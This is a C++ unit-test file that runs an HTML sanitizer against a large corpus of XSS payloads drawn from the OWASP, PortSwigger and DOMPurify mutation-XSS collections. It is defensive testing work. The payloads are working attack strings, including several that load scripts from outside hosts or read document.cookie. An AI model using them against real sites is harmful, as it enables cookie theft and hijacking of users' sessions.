// The sanitizer against known XSS payloads: the OWASP XSS filter evasion cheat sheet, PortSwigger's
// XSS cheat sheet and DOMPurify's mutation-XSS cases (namespace confusion, raw-text elements, nested
// forms), plus entity- and whitespace-obfuscated URL schemes. For every payload the output is parsed
// again (html_checker_for_test.hpp) and must hold nothing the allow list forbids, and sanitizing it
// again must change nothing.

#include "core/html_checker_for_test.hpp"
#include "core/html_sanitizer.hpp"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace portal::core {
namespace {

using namespace std::string_view_literals;

const std::vector<std::string_view>& corpus() {
  static const std::vector<std::string_view> payloads{
      // OWASP XSS filter evasion cheat sheet
      R"~~(<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>)~~",
      R"~~(javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>)~~",
      R"~~(<IMG SRC="javascript:alert('XSS');">)~~",
      R"~~(<IMG SRC=javascript:alert('XSS')>)~~",
      R"~~(<IMG SRC=JaVaScRiPt:alert('XSS')>)~~",
      R"~~(<IMG SRC=javascript:alert(&quot;XSS&quot;)>)~~",
      R"~~(<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>)~~",
      R"~~(\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>)~~",
      R"~~(\<a onmouseover=alert(document.cookie)\>xxs link\</a\>)~~",
      R"~~(<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>)~~",
      R"~~(<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>)~~",
      R"~~(<IMG SRC=# onmouseover="alert('xxs')">)~~",
      R"~~(<IMG SRC= onmouseover="alert('xxs')">)~~",
      R"~~(<IMG onmouseover="alert('xxs')">)~~",
      R"~~(<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>)~~",
      R"~~(<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">)~~",
      R"~~(<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>)~~",
      R"~~(<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>)~~",
      R"~~(<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>)~~",
      "<IMG SRC=\"jav\tascript:alert('XSS');\">",
      R"~~(<IMG SRC="jav&#x09;ascript:alert('XSS');">)~~",
      R"~~(<IMG SRC="jav&#x0A;ascript:alert('XSS');">)~~",
      R"~~(<IMG SRC="jav&#x0D;ascript:alert('XSS');">)~~",
      R"~~(<IMG SRC=" &#14;  javascript:alert('XSS');">)~~",
      R"~~(<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>)~~",
      R"~~(<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<<SCRIPT>alert("XSS");//\<</SCRIPT>)~~",
      R"~~(<SCRIPT SRC=http://xss.rocks/xss.js?< B >)~~",
      R"~~(<SCRIPT SRC=//xss.rocks/.j>)~~",
      R"~~(<IMG SRC="`('XSS')")~~",
      R"~~(<iframe src=http://xss.rocks/scriptlet.html <)~~",
      R"~~(</TITLE><SCRIPT>alert("XSS");</SCRIPT>)~~",
      R"~~(<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">)~~",
      R"~~(<BODY BACKGROUND="javascript:alert('XSS')">)~~",
      R"~~(<IMG DYNSRC="javascript:alert('XSS')">)~~",
      R"~~(<IMG LOWSRC="javascript:alert('XSS')">)~~",
      R"~~(<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>)~~",
      R"~~(<IMG SRC='vbscript:msgbox("XSS")'>)~~",
      R"~~(<svg/onload=alert('XSS')>)~~",
      R"~~(<BODY ONLOAD=alert('XSS')>)~~",
      R"~~(<BGSOUND SRC="javascript:alert('XSS');">)~~",
      R"~~(<BR SIZE="&{alert('XSS')}">)~~",
      R"~~(<LINK REL="stylesheet" HREF="javascript:alert('XSS');">)~~",
      R"~~(<STYLE>@import'http://xss.rocks/xss.css';</STYLE>)~~",
      R"~~(<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">)~~",
      R"~~(<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>)~~",
      R"~~(<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">)~~",
      R"~~(<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>)~~",
      R"~~(<XSS STYLE="behavior: url(xss.htc);">)~~",
      R"~~(<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">)~~",
      R"~~(<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">)~~",
      R"~~(<IFRAME SRC="javascript:alert('XSS');"></IFRAME>)~~",
      R"~~(<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>)~~",
      R"~~(<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>)~~",
      R"~~(<TABLE BACKGROUND="javascript:alert('XSS')">)~~",
      R"~~(<TABLE><TD BACKGROUND="javascript:alert('XSS')">)~~",
      R"~~(<DIV STYLE="background-image: url(javascript:alert('XSS'))">)~~",
      R"~~(<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">)~~",
      R"~~(<DIV STYLE="width: expression(alert('XSS'));">)~~",
      R"~~(<BASE HREF="javascript:alert('XSS');//">)~~",
      R"~~(<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>)~~",
      R"~~(<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>)~~",
      R"~~(<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>)~~",
      R"~~(<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>)~~",
      // URL schemes hidden by entities, whitespace, case and control characters
      R"~~(<a href="jav&#x09;ascript:alert(1)">x</a>)~~",
      R"~~(<a href="javas&#99;ript:alert(1)">x</a>)~~",
      R"~~(<a href="&#x6a;avascript:alert(1)">x</a>)~~",
      R"~~(<a href="javascript&colon;alert(1)">x</a>)~~",
      R"~~(<a href="javascript&#58alert(1)">x</a>)~~",
      R"~~(<a href="  javascript:alert(1)">x</a>)~~",
      R"~~(<a href="java&NewLine;script:alert(1)">x</a>)~~",
      R"~~(<a href="java&Tab;script:alert(1)">x</a>)~~",
      R"~~(<a href="&#1;javascript:alert(1)">x</a>)~~",
      R"~~(<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41">x</a>)~~",
      R"~~(<a href="JaVaScRiPt:alert(1)">x</a>)~~",
      R"~~(<a href="javascript://%0aalert(1)">x</a>)~~",
      R"~~(<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>)~~",
      R"~~(<a href="vbscript:msgbox(1)">x</a>)~~",
      R"~~(<a href="javascript:alert(1)" target="_blank">x</a>)~~",
      R"~~(<a href=javascript:alert(1)><img src=x></a>)~~",
      "<a href=\"java\0script:alert(1)\">x</a>"sv,
      "<a href=\"\0javascript:alert(1)\">x</a>"sv,
      "<img src=x\0 onerror=alert(1)>"sv,
      "<scr\0ipt>alert(1)</scr\0ipt>"sv,
      R"~~(<img src="data:image/svg+xml,<svg onload=alert(1)>">)~~",
      R"~~(<img src="http://example.com/x.png" onerror="alert(1)">)~~",
      R"~~(<img src=x:alert(alt) onerror=eval(src) alt=0>)~~",
      R"~~(<img src=`x`onerror=alert(1)>)~~",
      R"~~(<img src="x" onerror="alert(1)"//)~~",
      // PortSwigger XSS cheat sheet: event handlers and odd elements
      R"~~(<svg><animate onbegin=alert(1) attributeName=x dur=1s>)~~",
      R"~~(<svg><set attributeName=href values=javascript:alert(1) /><a><text>click</text></a></svg>)~~",
      R"~~(<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>)~~",
      R"~~(<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>)~~",
      R"~~(<math href="javascript:alert(1)">CLICKME</math>)~~",
      R"~~(<details open ontoggle=alert(1)>)~~",
      R"~~(<video><source onerror="alert(1)"></video>)~~",
      R"~~(<audio src/onerror=alert(1)>)~~",
      R"~~(<body onpageshow=alert(1)>)~~",
      R"~~(<marquee onstart=alert(1)>)~~",
      R"~~(<input autofocus onfocus=alert(1)>)~~",
      R"~~(<select autofocus onfocus=alert(1)>)~~",
      R"~~(<textarea autofocus onfocus=alert(1)>)~~",
      R"~~(<keygen autofocus onfocus=alert(1)>)~~",
      R"~~(<form><button formaction=javascript:alert(1)>CLICK)~~",
      R"~~(<isindex type=image src=1 onerror=alert(1)>)~~",
      R"~~(<object data="javascript:alert(1)">)~~",
      R"~~(<iframe srcdoc="<script>alert(1)</script>">)~~",
      R"~~(<xss onpointerover=alert(1)>hover</xss>)~~",
      R"~~(<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>)~~",
      R"~~(<image src=1 href=1 onerror="javascript:alert(1)"></image>)~~",
      R"~~(<embed src="javascript:alert(1)">)~~",
      R"~~(<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>test</a>)~~",
      R"~~(<a id=x tabindex=1 onfocus=alert(1)></a>)~~",
      R"~~(<p onmouseover="alert(1)">hover</p>)~~",
      R"~~(<span style="background:url(javascript:alert(1))">x</span>)~~",
      R"~~(<div id="x" data-x="y" class="c" onclick=alert(1)>x</div>)~~",
      R"~~(<a href="#" onclick="alert(1)">x</a>)~~",
      R"~~(<a href="https://example.com" onclick="alert(1)" style="color:red">x</a>)~~",
      R"~~(<svg><script>alert(1)</script></svg>)~~",
      R"~~(<svg><script href="data:,alert(1)"/></svg>)~~",
      R"~~(<table><a href="javascript:alert(1)">x</a></table>)~~",
      // DOMPurify mutation XSS: namespace confusion and raw-text elements
      R"~~(<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">)~~",
      R"~~(<svg><p><style><img src=x onerror=alert(1)>)~~",
      R"~~(<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>)~~",
      R"~~(<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>)~~",
      R"~~(<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>)~~",
      R"~~(<noscript><p title="</noscript><img src=x onerror=alert(1)>">)~~",
      R"~~(<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>)~~",
      R"~~(<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>)~~",
      R"~~(<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>)~~",
      R"~~(<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>)~~",
      R"~~(<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>)~~",
      R"~~(<title><img title="</title><img src=x onerror=alert(1)>"></title>)~~",
      R"~~(<style><img title="</style><img src=x onerror=alert(1)>"></style>)~~",
      R"~~(<plaintext><img src=x onerror=alert(1)>)~~",
      R"~~(<template><img src=x onerror=alert(1)></template>)~~",
      R"~~(<svg><style><img src=x onerror=alert(1)></style></svg>)~~",
      R"~~(<math><style><img src=x onerror=alert(1)></style></math>)~~",
      R"~~(<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>)~~",
      R"~~(<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>)~~",
      R"~~(<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>)~~",
      R"~~(<table><style><img src=x onerror=alert(1)></style></table>)~~",
      R"~~(<select><style></select><img src=x onerror=alert(1)></style>)~~",
      R"~~(<a href="https://ok.example"><svg><a href="javascript:alert(1)">x</a></svg></a>)~~",
      // Nested forms, unclosed tags and attributes, comments, CDATA, processing instructions
      R"~~(<form><form><input name=x onfocus=alert(1) autofocus></form></form>)~~",
      R"~~(<form id=x><form id=y></form><button form=x formaction="javascript:alert(1)">go</button>)~~",
      R"~~(<div><form></div><form><img src onerror=alert(1)>)~~",
      R"~~(<a href="javascript:alert(1))~~",
      R"~~(<img src=x onerror=alert(1))~~",
      R"~~(<b><i><u><a href="javascript:alert(1)">unclosed)~~",
      R"~~(<!--<img src=x onerror=alert(1)>-->)~~",
      R"~~(<!--><img src=x onerror=alert(1)>-->)~~",
      R"~~(<![CDATA[<img src=x onerror=alert(1)>]]>)~~",
      R"~~(<?xml version="1.0"?><img src=x onerror=alert(1)>)~~",
      R"~~(<scr<script>ipt>alert(1)</scr</script>ipt>)~~",
      R"~~(<<img src=x onerror=alert(1)//<<)~~",
      R"~~(<a title="&quot; onmouseover=&quot;alert(1)">x</a>)~~",
      R"~~(<a href='https://ok.example/"onmouseover="alert(1)'>x</a>)~~",
      R"~~(<img src="https://ok.example/x.png" alt="<script>alert(1)</script>">)~~",
      R"~~(<a href="https://ok.example" target="_top" rel="opener">x</a>)~~",
      R"~~(<p>text</p><meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-)~~",
      R"~~(<a href="mailto:x@example.com?body=<script>alert(1)</script>">mail</a>)~~",
  };
  return payloads;
}

TEST(HtmlSanitizerCorpus, HasAtLeastAHundredPayloads) { EXPECT_GE(corpus().size(), 100u); }

TEST(HtmlSanitizerCorpus, NoPayloadSurvives) {
  for (const auto payload : corpus()) {
    const auto clean = sanitize_html(payload);
    const auto problems = test::html_allow_list_problems(clean.html);
    EXPECT_TRUE(problems.empty()) << "payload: " << payload << "\noutput: " << clean.html
                                  << "\nfirst problem: " << (problems.empty() ? "" : problems.front());
    EXPECT_EQ(clean.html.find("<script"), std::string::npos) << payload;
  }
}

TEST(HtmlSanitizerCorpus, OutputIsAFixedPoint) {
  for (const auto payload : corpus()) {
    const auto once = sanitize_html(payload);
    const auto twice = sanitize_html(once.html);
    EXPECT_EQ(twice.html, once.html) << "payload: " << payload;
    EXPECT_TRUE(twice.removed.empty()) << "payload: " << payload << "\nsecond pass removed: " << twice.removed.front();
  }
}

TEST(HtmlSanitizerCorpus, EveryDangerousPayloadReportsARemoval) {
  for (const auto payload : corpus()) {
    if (test::html_tree_problems(payload).empty()) continue;  // the parser builds nothing to remove
    EXPECT_FALSE(sanitize_html(payload).removed.empty()) << payload;
  }
}

// Pieces of payloads spliced together at random places (a fixed seed, so a failure repeats): new
// nestings and half-open tags and attributes the list above does not hold.
TEST(HtmlSanitizerCorpus, SplicedPayloadsStaySafe) {
  std::mt19937 random(6);
  const auto& payloads = corpus();
  auto piece = [&] {
    const std::string_view payload = payloads[random() % payloads.size()];
    const std::size_t from = random() % (payload.size() + 1);
    return payload.substr(from, random() % (payload.size() - from + 1));
  };
  for (int round = 0; round < 3000; ++round) {
    std::string input;
    for (int pieces = 2 + static_cast<int>(random() % 3); pieces > 0; --pieces) input += piece();
    const auto once = sanitize_html(input);
    const auto problems = test::html_allow_list_problems(once.html);
    ASSERT_TRUE(problems.empty()) << "input: " << input << "\noutput: " << once.html << "\n" << problems.front();
    ASSERT_EQ(sanitize_html(once.html).html, once.html) << "input: " << input;
  }
}

// The checker itself must see what it is meant to see, or the tests above prove nothing.
TEST(HtmlSanitizerCorpus, CheckerFlagsRawPayloads) {
  for (const std::string_view raw : {
           R"~~(<img src=x onerror=alert(1)>)~~"sv,
           R"~~(<a href="jav&#x09;ascript:alert(1)">x</a>)~~"sv,
           R"~~(<a href="data:text/html,x">x</a>)~~"sv,
           R"~~(<svg><p><style><img src=x onerror=alert(1)>)~~"sv,
           R"~~(<p style="color:red">x</p>)~~"sv,
           R"~~(<a href="https://ok.example" target="_blank">x</a>)~~"sv,
           R"~~(<!-- x -->)~~"sv,
           R"~~(<h1>x</h1>)~~"sv,
       }) {
    EXPECT_FALSE(test::html_allow_list_problems(raw).empty()) << raw;
  }
  EXPECT_TRUE(test::html_allow_list_problems(
                  R"(<p>ok <a href="https://ok.example" target="_blank" rel="noopener noreferrer">x</a></p>)")
                  .empty());
}

}  // namespace
}  // namespace portal::core
